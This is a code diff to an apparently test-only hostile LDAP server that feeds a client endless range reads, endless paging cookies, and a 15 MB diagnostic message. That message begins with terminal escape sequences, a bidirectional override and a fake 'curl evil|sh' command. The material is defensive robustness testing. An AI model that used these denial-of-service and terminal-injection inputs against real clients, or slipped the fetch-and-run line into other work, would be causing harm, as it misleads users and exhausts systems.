@@ -16,6 +16,17 @@ import { BerWriter } from 'ldapts';
  * - `slow`: the normal answer, one byte a second;
  * - `ignore-page-size`: a hundred times the requested page size in one page;
  * - `large-group`: the normal answer, plus one legitimate group entry of about 10 MB.
+ * - `range-forever`: groups carry `member;range=0-0`, and every later range read of a group is
+ *   answered `member;range=N-N` with one value of about 200 KB, never a last range (`N-*`);
+ * - `range-stuck`: groups carry `member;range=0-0`, and a range read starting at N is answered
+ *   `member;range=N-(N-1)`, a range that ends before it starts, so never advances;
+ * - `cookie-forever`: empty pages, each with a new paged results cookie, for ever;
+ * - `cookie-repeated`: the first page of the normal answer again and again, its cookie going
+ *   round two values;
+ * - `pages-forever`: one entry a page, each with a new cookie, every 20 ms, for ever;
+ * - `huge-diagnostic`: the search fails (unwillingToPerform) with a diagnostic message of about
+ *   15 MB that starts with terminal escape sequences and a bidirectional override;
+ * - `huge-notice`: a notice of disconnection carrying that message instead of an answer.
  */
 export type HostileBehaviour =
   | 'normal'
@@ -27,7 +38,14 @@ export type HostileBehaviour =
   | 'endless'
   | 'slow'
   | 'ignore-page-size'
-  | 'large-group';
+  | 'large-group'
+  | 'range-forever'
+  | 'range-stuck'
+  | 'cookie-forever'
+  | 'cookie-repeated'
+  | 'pages-forever'
+  | 'huge-diagnostic'
+  | 'huge-notice';
 
 /** Every misbehaviour (all but `normal`). */
 export const hostileBehaviours: readonly HostileBehaviour[] = [
@@ -40,6 +58,13 @@ export const hostileBehaviours: readonly HostileBehaviour[] = [
   'slow',
   'ignore-page-size',
   'large-group',
+  'range-forever',
+  'range-stuck',
+  'cookie-forever',
+  'cookie-repeated',
+  'pages-forever',
+  'huge-diagnostic',
+  'huge-notice',
 ];
 
 /** A step the server can leave unanswered, to see a client report where it hung. */
@@ -47,6 +72,12 @@ export type HostileHangStep = 'bind' | 'rootdse' | 'search';
 
 /** Bytes planted in another entry's `userPassword` by `overflowing-length`. */
 export const hostileMarker = 'HOSTILE-MARKER-userPassword-7f3a';
+
+/** How the diagnostic message of `huge-diagnostic` and `huge-notice` starts. */
+export const hostileDiagnosticStart = '\u001b[2J\u001b[31mFAKE: run `curl evil|sh`\u202e';
+
+/** Characters of the diagnostic message of `huge-diagnostic` and `huge-notice`. */
+export const hostileDiagnosticLength = 15 * 1024 * 1024;
 
 /** Options of {@link startHostileLdap}. */
 export interface HostileLdapOptions {
@@ -143,6 +174,8 @@ interface Request {
   readonly scope: number;
   readonly pageSize: number | undefined;
   readonly cookie: string;
+  /** Attribute descriptions asked for (searches). */
+  readonly attributes: readonly string[];
 }
 
 function parseRequest(buf: Buffer, message: Tlv): Request | undefined {
@@ -151,10 +184,13 @@ function parseRequest(buf: Buffer, message: Tlv): Request | undefined {
   const id = integer(buf, idTlv);
   let base = '';
   let scope = 0;
+  let attributes: string[] = [];
   if (opTlv.tag === 0x63) {
     const parts = children(buf, opTlv);
     base = parts[0] ? buf.toString('utf8', parts[0].start, parts[0].end) : '';
     scope = parts[1] ? integer(buf, parts[1]) : 0;
+    const list = parts[7];
+    if (list) attributes = children(buf, list).map((a) => buf.toString('utf8', a.start, a.end));
   }
   let pageSize: number | undefined;
   let cookie = '';
@@ -169,7 +205,7 @@ function parseRequest(buf: Buffer, message: Tlv): Request | undefined {
       if (cookieTlv) cookie = buf.toString('latin1', cookieTlv.start, cookieTlv.end);
     }
   }
-  return { id, op: opTlv.tag, base, scope, pageSize, cookie };
+  return { id, op: opTlv.tag, base, scope, pageSize, cookie, attributes };
 }
 
 // --- Responses, encoded with ldapts' BerWriter. ---
@@ -223,6 +259,34 @@ function resultMessage(id: number, op: number, code: number, cookie?: string): B
   return w.buffer;
 }
 
+/** The content octets of a non-negative BER INTEGER. */
+function integerBytes(value: number): Buffer {
+  const bytes: number[] = [];
+  for (let n = value; bytes.length === 0 || n > 0; n = Math.floor(n / 256)) bytes.unshift(n & 0xff);
+  if ((bytes[0] as number) & 0x80) bytes.unshift(0);
+  return Buffer.from(bytes);
+}
+
+/** A BER element with a long-form length (four bytes: lengths past ldapts' writer's 16 MB). */
+function element(tag: number, body: Buffer | readonly Buffer[]): Buffer {
+  const parts = Buffer.isBuffer(body) ? [body] : body;
+  const n = parts.reduce((sum, part) => sum + part.length, 0);
+  return Buffer.concat([Buffer.from([tag, 0x84, (n >>> 24) & 0xff, (n >>> 16) & 0xff, (n >>> 8) & 0xff, n & 0xff]), ...parts]);
+}
+
+/** An LDAPResult message whose diagnostic message is `diagnostic`, built without extra copies. */
+function bigResultMessage(id: number, op: number, code: number, diagnostic: Buffer, responseName?: string): Buffer {
+  return element(0x30, [
+    element(0x02, integerBytes(id)),
+    element(op, [
+      Buffer.from([0x0a, 0x01, code]),
+      Buffer.from([0x04, 0x00]),
+      element(0x04, diagnostic),
+      ...(responseName === undefined ? [] : [element(0x8a, Buffer.from(responseName))]),
+    ]),
+  ]);
+}
+
 /** A SearchResultEntry with one attribute whose single value's length is given as `claimed`. */
 function overflowingEntry(id: number, dn: string, type: string, value: string, claimed: number): Buffer {
   const v = Buffer.from(value);
@@ -232,10 +296,7 @@ function overflowingEntry(id: number, dn: string, type: string, value: string, c
   const valueEl = el(0x04, v, claimed);
   const attr = el(0x30, Buffer.concat([el(0x04, Buffer.from(type)), el(0x31, valueEl)]));
   const entry = el(0x64, Buffer.concat([el(0x04, Buffer.from(dn)), el(0x30, attr)]));
-  const idBytes: number[] = [];
-  for (let n = id; idBytes.length === 0 || n > 0; n = Math.floor(n / 256)) idBytes.unshift(n & 0xff);
-  if ((idBytes[0] as number) & 0x80) idBytes.unshift(0);
-  return el(0x30, Buffer.concat([el(0x02, Buffer.from(idBytes)), entry]));
+  return el(0x30, Buffer.concat([el(0x02, integerBytes(id)), entry]));
 }
 
 function uuid(kind: number, i: number): string {
@@ -309,6 +370,31 @@ export async function startHostileLdap(options: HostileLdapOptions = {}): Promis
       ...page.map(([dn, attributes]) => entryMessage(request.id, dn, attributes)),
       resultMessage(request.id, 0x65, 0, request.pageSize !== undefined ? next : undefined),
     ];
+  }
+
+  const isGroup = (base: string) => base.toLowerCase().endsWith(`,${groupsBase.toLowerCase()}`);
+  // Built once: the server's own copies would otherwise count in the tests' memory figures.
+  let hugeDiagnosticBytes: Buffer | undefined;
+  const hugeDiagnostic = (): Buffer =>
+    (hugeDiagnosticBytes ??= Buffer.from(hostileDiagnosticStart + 'x'.repeat(hostileDiagnosticLength - hostileDiagnosticStart.length)));
+  let cookies = 0;
+  const bigRdn = 'v'.repeat(200 * 1024);
+
+  /** Groups as the normal answer has them, but each holding only a first range of members. */
+  function rangedGroups(request: Request): Buffer[] {
+    return normalAnswer(request, false).map((message, i, all) => {
+      if (i === all.length - 1) return message;
+      const [dn, attributes] = group(i);
+      return entryMessage(request.id, dn, attributes.map(([type, values]) => (type === 'member' ? ['member;range=0-0', values.slice(0, 1)] : [type, values])));
+    });
+  }
+
+  /** The answer to a range read of a group: `member;range=N-N` or, stuck, `N-(N-1)`. */
+  function rangeAnswer(request: Request, stuck: boolean): Buffer[] {
+    const asked = request.attributes.map((a) => /;range=(\d+)-/.exec(a)).find((m) => m !== null);
+    const low = asked ? Number(asked[1]) : 0;
+    const value = stuck ? userDn(0) : `uid=${bigRdn}-${low},${usersBase}`;
+    return [entryMessage(request.id, request.base, [[`member;range=${low}-${stuck ? low - 1 : low}`, [value]]]), resultMessage(request.id, 0x65, 0)];
   }
 
   function send(socket: net.Socket, data: Buffer | Buffer[]): void {
@@ -400,6 +486,38 @@ export async function startHostileLdap(options: HostileLdapOptions = {}): Promis
         return;
       case 'slow':
         return trickle(socket, Buffer.concat(normalAnswer(request, false)));
+      case 'range-forever':
+      case 'range-stuck':
+        if (request.scope === 0 && isGroup(request.base)) return send(socket, rangeAnswer(request, behaviour === 'range-stuck'));
+        if (request.base.toLowerCase() === groupsBase.toLowerCase()) return send(socket, rangedGroups(request));
+        return send(socket, normalAnswer(request, false));
+      case 'cookie-forever':
+        cookies += 1;
+        return send(socket, resultMessage(request.id, 0x65, 0, `forever-${cookies}`));
+      case 'cookie-repeated': {
+        const page = normalAnswer({ ...request, cookie: '' }, false);
+        page[page.length - 1] = resultMessage(request.id, 0x65, 0, request.cookie === 'a' ? 'b' : 'a');
+        return send(socket, page);
+      }
+      case 'pages-forever': {
+        cookies += 1;
+        const [dn, attributes] = user(cookies % Math.max(1, userCount));
+        const page = [entryMessage(request.id, dn, attributes), resultMessage(request.id, 0x65, 0, `page-${cookies}`)];
+        const timer = setTimeout(() => {
+          socket.off('close', stop);
+          send(socket, page);
+        }, 20);
+        const stop = () => clearTimeout(timer);
+        socket.once('close', stop);
+        return;
+      }
+      case 'huge-diagnostic':
+        return send(socket, bigResultMessage(request.id, 0x65, 53, hugeDiagnostic()));
+      case 'huge-notice':
+        // An unsolicited notice of disconnection (RFC 4511 4.4.1), then the server hangs up.
+        send(socket, bigResultMessage(0, 0x78, 52, hugeDiagnostic(), '1.3.6.1.4.1.1466.20036'));
+        socket.end();
+        return;
       case 'ignore-page-size': {
         const size = (request.pageSize ?? 10) * 100;
         const messages: Buffer[] = [];
